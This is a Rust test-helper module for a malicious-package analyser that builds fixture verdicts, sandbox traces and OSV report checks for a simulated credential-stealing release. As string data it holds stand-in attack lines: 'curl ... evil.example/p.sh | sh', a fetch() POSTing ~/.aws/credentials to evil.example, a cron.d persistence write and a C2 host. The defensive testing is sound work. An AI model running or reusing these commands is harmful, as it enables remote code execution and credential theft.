//! Shared by the integration tests: realistic results of one malicious
//! release, and the checks every written report must pass (the OSV
//! schema and the database's rules).

#![allow(dead_code)] // each test binary uses part of it

use std::path::Path;

use chrono::{DateTime, TimeZone, Utc};
use paddock_osv::{Input, OsvConfig, Report};
use paddock_proto::sandbox::{pool_address, HOST_ADDR};
use paddock_proto::v1::{
    Artifact, BehaviorChange, Change, ChangeAction, ChangeKind, Command, DnsQuery, DynamicResult,
    Ecosystem, Evidence, FileEvent, FileFacts, FileOp, FileWrite, Finding, FindingCategory,
    HttpRequest, InstallHook, InstallHookKind, PackageMetadata, PackageRef, Phase, PhaseResult,
    Process, Reachability, Reason, Severity, Socket, SocketOp, StaticResult, TlsHello, Verdict,
};
use serde_json::Value;

pub const ARTIFACT_SHA: &str = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
pub const INDEX_SHA: &str = "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb";
pub const PAYLOAD_SHA: &str = "cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc";

/// A name of each ecosystem that exercises its canonicalisation.
pub fn sample_name(eco: Ecosystem) -> &'static str {
    match eco {
        Ecosystem::Npm => "@Evil/Pkg",
        Ecosystem::Pypi => "Evil.Pkg__Name",
        Ecosystem::Rubygems => "Evil-Gem",
        Ecosystem::Packagist => "Evil/Pkg",
        Ecosystem::CratesIo => "evil-Crate",
        Ecosystem::Unspecified => "x",
    }
}

pub fn t(hour: u32) -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 11, 22, hour, 0, 0).unwrap()
}

pub fn package(eco: Ecosystem, name: &str, version: &str) -> PackageRef {
    PackageRef {
        ecosystem: eco.into(),
        name: name.into(),
        version: version.into(),
    }
}

fn reason(source: &str, code: &str, description: &str, weight: f64, severity: Severity) -> Reason {
    Reason {
        source: source.into(),
        code: code.into(),
        description: description.into(),
        weight,
        severity: severity.into(),
    }
}

/// A high verdict on a release that steals credentials at install.
pub fn verdict(eco: Ecosystem, name: &str, version: &str, previous: &str) -> Verdict {
    Verdict {
        package: Some(package(eco, name, version)),
        severity: Severity::Critical.into(),
        score: 160.0,
        reasons: vec![
            reason(
                "finding",
                "threat.exfiltrate-credential-files",
                "reads credential files and sends them over the network (install, confidence 0.90)",
                54.0,
                Severity::High,
            ),
            reason(
                "change",
                "install-network-added",
                "new network activity at install: evil.example:443",
                40.0,
                Severity::High,
            ),
            reason(
                "change",
                "command-added",
                "new commands: sh -c 'curl -s https://evil.example/p.sh | sh'",
                20.0,
                Severity::Medium,
            ),
            reason(
                "change",
                "dependency-added",
                "suppressed: new dependency",
                0.0,
                Severity::Info,
            ),
        ],
        previous_version: previous.into(),
        has_static: true,
        has_dynamic: true,
        run_ids: vec!["run-1".into()],
        scoring_version: "3".into(),
        ..Default::default()
    }
}

pub fn static_result(eco: Ecosystem, name: &str, version: &str) -> StaticResult {
    StaticResult {
        package: Some(package(eco, name, version)),
        artifact: Some(Artifact {
            filename: format!("evil-{version}.tgz"),
            size: 2048,
            sha256: ARTIFACT_SHA.into(),
            ..Default::default()
        }),
        files: vec![
            FileFacts {
                path: "index.js".into(),
                sha256: INDEX_SHA.into(),
                size: 400,
                ..Default::default()
            },
            FileFacts {
                path: "test/fixture.js".into(),
                sha256: "dd".repeat(32),
                ..Default::default()
            },
        ],
        findings: vec![
            Finding {
                rule_id: "threat.exfiltrate-credential-files".into(),
                severity: Severity::High.into(),
                confidence: 0.9,
                category: FindingCategory::Threat.into(),
                title: "reads credential files and sends them over the network".into(),
                evidence: vec![Evidence {
                    file: "index.js".into(),
                    line: 3,
                    snippet: "fetch('https://evil.example/collect?id=1', {method: 'POST', body: fs.readFileSync(home + '/.aws/credentials')})".into(),
                    ..Default::default()
                }],
                reachability: Reachability::Install.into(),
                ..Default::default()
            },
            // In a test file nothing runs: not an indicator.
            Finding {
                rule_id: "threat.pipe-to-shell".into(),
                severity: Severity::High.into(),
                category: FindingCategory::Threat.into(),
                title: "pipes a download to a shell".into(),
                evidence: vec![Evidence {
                    file: "test/fixture.js".into(),
                    snippet: "exec('curl https://unreached.example/x | sh')".into(),
                    ..Default::default()
                }],
                reachability: Reachability::Unreached.into(),
                ..Default::default()
            },
        ],
        metadata: Some(PackageMetadata {
            install_hooks: vec![InstallHook {
                kind: InstallHookKind::NpmLifecycle.into(),
                name: "postinstall".into(),
                command: "node index.js".into(),
                ..Default::default()
            }],
            ..Default::default()
        }),
        ..Default::default()
    }
}

/// What the sandbox saw: the package's traffic among the harness's and
/// the simulated internet's own.
pub fn dynamic_result(eco: Ecosystem, name: &str, version: &str) -> DynamicResult {
    let pool = pool_address(5).unwrap().to_string();
    let argv = |a: &[&str]| a.iter().map(|s| s.to_string()).collect::<Vec<_>>();
    let install = PhaseResult {
        phase: Phase::Install.into(),
        dns: vec![
            DnsQuery {
                hostname: "evil.example".into(),
                types: vec!["A".into()],
                answered: true,
                ..Default::default()
            },
            DnsQuery {
                hostname: "github.com".into(),
                ..Default::default()
            },
            DnsQuery {
                hostname: "<hex>.bad name".into(),
                ..Default::default()
            },
        ],
        sockets: vec![
            Socket {
                op: SocketOp::Connect.into(),
                family: "AF_INET".into(),
                address: pool.clone(),
                port: 443,
                hostnames: vec!["evil.example".into()],
                ..Default::default()
            },
            Socket {
                op: SocketOp::Connect.into(),
                family: "AF_INET".into(),
                address: "203.0.113.9".into(),
                port: 4444,
                ..Default::default()
            },
            Socket {
                op: SocketOp::Connect.into(),
                family: "AF_INET".into(),
                address: HOST_ADDR.to_string(),
                port: 53,
                ..Default::default()
            },
            Socket {
                op: SocketOp::Connect.into(),
                family: "AF_INET".into(),
                address: "127.0.0.1".into(),
                port: 9229,
                ..Default::default()
            },
        ],
        http_requests: vec![
            HttpRequest {
                method: "POST".into(),
                host: "evil.example".into(),
                path: "/collect?k=AKIAPLANTED".into(),
                via: "catch-all-tls".into(),
                address: pool.clone(),
                port: 443,
                ..Default::default()
            },
            HttpRequest {
                method: "GET".into(),
                host: format!("{HOST_ADDR}:3141"),
                path: "/some/package".into(),
                via: "registry-proxy".into(),
                ..Default::default()
            },
        ],
        tls: vec![TlsHello {
            sni: "evil.example".into(),
            address: pool,
            port: 443,
            ..Default::default()
        }],
        file_writes: vec![
            FileWrite {
                path: "/tmp/.x/payload.sh".into(),
                bytes_written: 120,
                sha256: PAYLOAD_SHA.into(),
                ..Default::default()
            },
            FileWrite {
                path: "/app/node_modules/evil/x.js".into(),
                bytes_written: 10,
                sha256: "ee".repeat(32),
                ..Default::default()
            },
        ],
        file_events: vec![FileEvent {
            seq: 4,
            pid: 20,
            op: FileOp::OpenRead.into(),
            path: "/root/.aws/credentials".into(),
            result: 3,
            ..Default::default()
        }],
        processes: vec![
            Process {
                pid: 1,
                argv: argv(&["node", "/opt/paddock/analyze-node.js", "install"]),
                ..Default::default()
            },
            Process {
                pid: 10,
                parent_pid: 1,
                argv: argv(&["npm", "install", "/artifact/evil.tgz"]),
                ..Default::default()
            },
            Process {
                pid: 20,
                parent_pid: 10,
                argv: argv(&["sh", "-c", "curl -s https://evil.example/p.sh | sh"]),
                ..Default::default()
            },
        ],
        commands: vec![
            Command {
                seq: 1,
                pid: 10,
                parent_pid: 1,
                argv: argv(&["npm", "install", "/artifact/evil.tgz"]),
                ..Default::default()
            },
            Command {
                seq: 2,
                pid: 20,
                parent_pid: 10,
                argv: argv(&["sh", "-c", "curl -s https://evil.example/p.sh | sh"]),
                ..Default::default()
            },
        ],
        ..Default::default()
    };
    DynamicResult {
        package: Some(package(eco, name, version)),
        phases: vec![install],
        findings: vec![Finding {
            rule_id: "dynamic.secret-read-and-network".into(),
            severity: Severity::High.into(),
            category: FindingCategory::Threat.into(),
            title: "reads secrets and uses the network in the same phase".into(),
            evidence: vec![Evidence {
                phase: Phase::Install.into(),
                detail: "/root/.aws/credentials".into(),
                ..Default::default()
            }],
            ..Default::default()
        }],
        ..Default::default()
    }
}

pub fn change(eco: Ecosystem, name: &str, version: &str, previous: &str) -> BehaviorChange {
    let added = |kind: ChangeKind, value: &str| Change {
        kind: kind.into(),
        action: ChangeAction::Added.into(),
        value: value.into(),
        phase: Phase::Install.into(),
        ..Default::default()
    };
    BehaviorChange {
        package: Some(package(eco, name, version)),
        previous_version: previous.into(),
        changes: vec![
            added(ChangeKind::Host, "evil.example:443"),
            added(ChangeKind::DnsName, "evil.example"),
            added(ChangeKind::Host, "udp c2.evil.example:53"),
            added(ChangeKind::FileWrite, "/etc/cron.d/evil"),
            added(ChangeKind::FileWrite, "/tmp/<tmp>"),
            Change {
                kind: ChangeKind::Host.into(),
                action: ChangeAction::Removed.into(),
                value: "old.example:443".into(),
                ..Default::default()
            },
        ],
        severity: Severity::High.into(),
        ..Default::default()
    }
}

/// All the evidence of one release, owned.
#[derive(Debug)]
pub struct Evidence3 {
    pub verdict: Verdict,
    pub static_result: StaticResult,
    pub dynamic: DynamicResult,
    pub change: BehaviorChange,
}

impl Evidence3 {
    pub fn new(eco: Ecosystem, name: &str, version: &str, previous: &str) -> Self {
        Self {
            verdict: verdict(eco, name, version, previous),
            static_result: static_result(eco, name, version),
            dynamic: dynamic_result(eco, name, version),
            change: change(eco, name, version, previous),
        }
    }

    pub fn full(&self) -> Input<'_> {
        Input {
            verdict: &self.verdict,
            static_result: Some(&self.static_result),
            dynamic: Some(&self.dynamic),
            change: Some(&self.change),
        }
    }

    pub fn static_only(&self) -> Input<'_> {
        Input {
            verdict: &self.verdict,
            static_result: Some(&self.static_result),
            dynamic: None,
            change: None,
        }
    }
}

/// A report of one release with all its evidence.
pub fn full_report(eco: Ecosystem, version: &str, previous: &str, now: DateTime<Utc>) -> Report {
    let e = Evidence3::new(eco, sample_name(eco), version, previous);
    paddock_osv::report(&e.full(), &OsvConfig::default(), now)
}

/// The OSV schema's complaints about `value`.
pub fn schema_errors(value: &Value) -> Vec<String> {
    paddock_testkit::schemas::osv_errors(value)
}

/// Fails unless `value` passes the OSV schema and the database's rules.
pub fn assert_accepted(value: &Value) {
    let schema = schema_errors(value);
    assert!(schema.is_empty(), "OSV schema: {schema:#?}\n{value:#}");
    if let Err(rules) = paddock_osv::rules::check(value) {
        panic!("malicious-packages rules: {rules:#?}\n{value:#}");
    }
}

/// Fails unless the file at `root/relative` is accepted where it is.
pub fn assert_file_accepted(root: &Path, file: &Path) {
    let value: Value = serde_json::from_slice(&std::fs::read(file).unwrap()).unwrap();
    assert_accepted(&value);
    let relative = file
        .strip_prefix(root)
        .unwrap()
        .to_string_lossy()
        .replace('\\', "/");
    if let Err(errors) = paddock_osv::rules::check_path(&relative, &value) {
        panic!("{relative}: {errors:#?}");
    }
}

/// Every `.json` file under `dir`, sorted.
pub fn json_files(dir: &Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    let Ok(listing) = std::fs::read_dir(dir) else {
        return out;
    };
    for item in listing {
        let path = item.unwrap().path();
        if path.is_dir() {
            out.extend(json_files(&path));
        } else if path.extension().is_some_and(|e| e == "json") {
            out.push(path);
        }
    }
    out.sort();
    out
}
